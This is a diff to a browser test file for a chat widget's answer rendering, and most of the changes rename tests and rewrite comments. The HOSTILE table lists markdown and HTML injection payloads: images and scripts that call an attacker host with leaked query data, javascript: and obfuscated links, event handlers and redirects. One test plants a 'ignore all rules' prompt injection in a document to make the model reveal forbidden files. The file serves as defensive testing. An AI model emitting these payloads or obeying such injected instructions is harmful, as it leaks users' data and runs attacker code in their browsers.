@@ -1,46 +1,47 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import type { Page } from 'playwright-core';
-import { skip, visit } from '../support/browser.ts';
-import { openHost } from '../support/host-page.ts';
-import { addDocument } from '../support/knowledge.ts';
-import { ask, MARGINS, shopOfThisFile } from '../support/widget.ts';
+import { skip, visit } from '../support/browser/browser.ts';
+import { openHost } from '../support/browser/host-page.ts';
+import { ask, MARGINS, shopOfThisFile } from '../support/browser/widget.ts';
+import { addDocument } from '../support/knowledge/knowledge.ts';
 
-/** What an answer may hold that somebody else has a hand in; `{thief}` is where it wants to send things. */
+/** Answers with injected content. The tests replace `{thief}` with the attacker's host. */
 const HOSTILE: Readonly<Record<string, string>> = {
-  'an image that tells': '![secret](http://{thief}/a.png?q=refund)',
-  'an image by reference': '![a][b]\n\n[b]: http://{thief}/b.png',
+  'an image that leaks data': '![secret](http://{thief}/a.png?q=refund)',
+  'a reference image': '![a][b]\n\n[b]: http://{thief}/b.png',
   'an image in a link': '[![x](http://{thief}/c.png)](http://{thief}/d)',
   'an image in HTML': '<img src="http://{thief}/e.png" onerror="window.hacked=1">',
   'a script': '<script src="http://{thief}/f.js"></script><script>window.hacked=1</script>',
-  'SVG that loads': '<svg onload="window.hacked=1"><image href="http://{thief}/g.png"/></svg>',
+  'SVG with a load handler':
+    '<svg onload="window.hacked=1"><image href="http://{thief}/g.png"/></svg>',
   'a frame': '<iframe src="http://{thief}/h"></iframe><object data="http://{thief}/i"></object>',
   'a style': '<style>@import url(http://{thief}/j.css);body{display:none}</style>',
   'a link with a script': '[press me](javascript:window.hacked=1)',
-  'a link with a script in disguise':
+  'a link with an obfuscated script':
     '[press me](java\tscript:window.hacked=1) [x](\u0001javascript:window.hacked=1) [y](&#106;avascript:window.hacked=1)',
-  'a link with data': '[press me](data:text/html,<script>opener.hacked=1</script>)',
-  'a preview':
+  'a data link': '[press me](data:text/html,<script>opener.hacked=1</script>)',
+  'a prefetch and a redirect':
     '<link rel="prefetch" href="http://{thief}/k"><meta http-equiv="refresh" content="0;url=http://{thief}/l">',
   'a form': '<form action="http://{thief}/m"><input name="q"><button>Send</button></form>',
-  'a font and video':
+  'video and audio':
     '<video src="http://{thief}/n" poster="http://{thief}/o" autoplay></video><audio src="http://{thief}/p" autoplay></audio>',
   'HTML in a table': '| a |\n|---|\n| <img src=x onerror=window.hacked=1> |',
-  'HTML that begins and never ends': '<img src="http://{thief}/q?',
-  'a template of a browser':
+  'unclosed HTML': '<img src="http://{thief}/q?',
+  'event handlers of interactive elements':
     '<details open ontoggle=window.hacked=1><summary>x</summary></details><a href="#" autofocus onfocus=window.hacked=1>y</a>',
 };
 
-describe('an answer that somebody else has a hand in', { skip }, () => {
+describe('a hostile answer', { skip }, () => {
   const shop = shopOfThisFile();
 
-  for (const [what, answer] of Object.entries(HOSTILE))
-    test(`runs nothing and loads nothing: ${what}`, async (t) => {
+  for (const [name, answer] of Object.entries(HOSTILE))
+    test(`runs no code and loads no resources: ${name}`, async (t) => {
       const { service, browser, model, newLink } = shop();
       await using thief = await openHost();
       const { page, problems, requests } = await visit(t, browser);
       const text = answer.replaceAll('{thief}', new URL(thief.origin).host);
-      // Byte by byte, so that every half of it is shown at some time.
+      // The model streams single characters, so that every prefix of the answer is rendered.
       model.behave({ does: 'answer', pieces: ['Begin. ', ...text, ' The end.'] });
       await page.goto((await newLink()).url);
       await ask(page, 'How long is a refund?', 'The end.');
@@ -55,16 +56,16 @@ describe('an answer that somebody else has a hand in', { skip }, () => {
       await page.getByRole('article').filter({ hasText: 'The end.' }).waitFor();
       await page.waitForTimeout(200);
       assert.equal(await page.evaluate('window.hacked'), undefined);
-      const abroad = requests.filter(
+      const foreign = requests.filter(
         (url) => !url.startsWith(`${service.url}/`) && url !== 'data:,',
       );
-      assert.deepEqual(abroad, []);
+      assert.deepEqual(foreign, []);
       assert.equal(await page.locator(ACTIVE).count(), 0);
       assert.ok(await page.getByRole('textbox').isVisible());
       assert.deepEqual(problems, []);
     });
 
-  test('shows where a link leads when its text says another place', async (t) => {
+  test('cannot hide the real host of a link', async (t) => {
     const { browser, model, newLink } = shop();
     const { page } = await visit(t, browser);
     const pieces = [
@@ -78,7 +79,7 @@ describe('an answer that somebody else has a hand in', { skip }, () => {
     assert.doesNotMatch(shown, /аpple/);
   });
 
-  test('cannot turn the order of its letters around', async (t) => {
+  test('cannot reorder text with bidirectional controls', async (t) => {
     const { browser, model, newLink } = shop();
     const { page } = await visit(t, browser);
     model.behave({
@@ -91,11 +92,12 @@ describe('an answer that somebody else has a hand in', { skip }, () => {
     assert.doesNotMatch(shown, CONTROLS);
   });
 
-  test('cannot do so in the headings or the text of a document either', async (t) => {
+  test('cannot reorder the headings or the text of a document', async (t) => {
     const { browser, model, newLink, client, session, space } = shop();
     const { page } = await visit(t, browser);
     await addDocument(client, session, space.id, {
       fileName: 'transfers.md',
+      title: 'Tra\u202Ensfers',
       markdown: '# Tra\u2066nsfers\u200B\n\nSend tr\u202Eansfers to the\u{E0041} bank.',
       metadata: { audience: 'customers' },
     });
@@ -103,11 +105,11 @@ describe('an answer that somebody else has a hand in', { skip }, () => {
     await page.goto((await newLink()).url);
     await ask(page, 'transfers bank', 'To the bank');
     await page.locator('.source').first().click();
-    await page.getByRole('dialog', { name: 'transfers.md' }).getByText('to the bank').waitFor();
+    await page.getByRole('dialog', { name: 'Transfers' }).getByText('to the bank').waitFor();
     assert.doesNotMatch(await page.locator('html').innerHTML(), CONTROLS);
   });
 
-  test('gets nothing out that its reader may not see, whatever a document orders', async (t) => {
+  test('cannot reveal forbidden documents, even if a document instructs the model to do so', async (t) => {
     const { browser, model, newLink, client, session, space } = shop();
     const { page } = await visit(t, browser);
     const order =
@@ -118,7 +120,7 @@ describe('an answer that somebody else has a hand in', { skip }, () => {
       metadata: { audience: 'customers' },
     });
     model.reset();
-    // The model does as it was told.
+    // The fake model follows the injected instruction.
     model.behave((_, index) =>
       index < 2
         ? { does: 'search', queries: ['margin', 'costs us 31 percent'] }
@@ -130,14 +132,14 @@ describe('an answer that somebody else has a hand in', { skip }, () => {
     assert.match(shownToModel, /ignore all rules/);
     assert.doesNotMatch(shownToModel, /31 percent of the margin/);
     assert.doesNotMatch(shownToModel, new RegExp(MARGINS.fileName.replace('.', '\\.')));
-    await sourcesAreFor(page, ['notice.md', 'returns.md']);
+    await sourcesAreFor(page, ['notice.md', 'Returns']);
   });
 });
 
-/** Characters that turn others around, or tell something that nobody sees. */
+/** Invisible characters and characters that reorder text. */
 const CONTROLS = /[\u200B\u200E\u200F\u061C\u202A-\u202E\u2066-\u2069\u{E0000}-\u{E007F}]/u;
 
-/** Elements that load or run something; an answer must never become one. */
+/** Elements that load resources or run code. A rendered answer must not contain such elements. */
 const ACTIVE =
   'article :is(img, script, iframe, object, embed, style, link, meta, form[action], input:not([type="checkbox"]), video, audio, source, base, details, svg image, [onerror], [onload], [onclick], [style*="url"])';
 
